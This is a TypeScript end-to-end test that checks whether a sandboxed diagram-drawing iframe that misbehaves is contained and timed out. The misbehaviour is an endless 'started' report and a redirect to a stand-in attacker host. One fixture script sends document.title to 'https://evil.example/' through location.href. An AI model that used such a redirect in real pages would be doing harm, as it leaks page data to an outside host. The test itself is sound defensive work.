import { expect, test } from "vitest";
import {
  askForDiagrams,
  buildDrawnMessage,
  buildFrameScript,
  openWithFrameScript,
} from "../../support/pages/drawingFrame.ts";
import { expectEventually, expectVisible } from "../../support/pages/screen.ts";
import { createWorkspaceFixture } from "../../support/servers/createWorkspaceFixture.ts";

// Requests to any other server fail a test by themselves: see openPages.ts.
const fixture = createWorkspaceFixture();

test("a frame that navigates or repeatedly reports that it has started loses only its own drawing and gets no extra time", async () => {
  const navigatingScript = `addEventListener("message", () => { location.href = "https://evil.example/?" + document.title; });
     parent.postMessage("drawing-frame-ready", "*");`;
  const endlessScript = `addEventListener("message", ({ ports: [port] }) => {
      port.onmessage = ({ data: { id } }) => setInterval(() => {
        port.postMessage({ id, isStarted: true });
        console.info("reported");
      }, 100);
    });
    parent.postMessage("drawing-frame-ready", "*");`;
  const drawingScript = buildFrameScript(`(id) => [${buildDrawnMessage("<g/>")}]`);
  const scripts = [navigatingScript, endlessScript, drawingScript];
  const { page } = await openWithFrameScript(
    fixture,
    () => scripts.shift() ?? "",
    /^Framing 'https:\/\/evil\.example\/' violates/,
  );
  await page.clock.install();
  const answer = await askForDiagrams(fixture, page, "first", "second", "third");
  await expectVisible(answer, "The end.");
  await expectEventually(() => page.frames().some((frame) => frame.url().startsWith("chrome-error"))).toBe(true);
  expect(page.url()).toMatch(new RegExp(`^${fixture.url}/`));
  await page.clock.fastForward(30_000);
  await expectVisible(answer, "The diagram couldn’t be drawn because a part of the app didn’t load.");

  // Each step is shorter than the 8 s that a drawing may take, and comes after a report; all three together are longer.
  for (let step = 0; step < 3; step++) {
    await page.waitForEvent("console", (message) => message.text() === "reported");
    await page.clock.fastForward(3_000);
  }
  await expectVisible(answer, "Drawing this diagram takes too long. Here is its source.");
  await expectEventually(() => answer.getByRole("img", { name: /^Diagram/ }).count()).toBe(1);
  expect(await page.locator("iframe").count()).toBe(1);
});
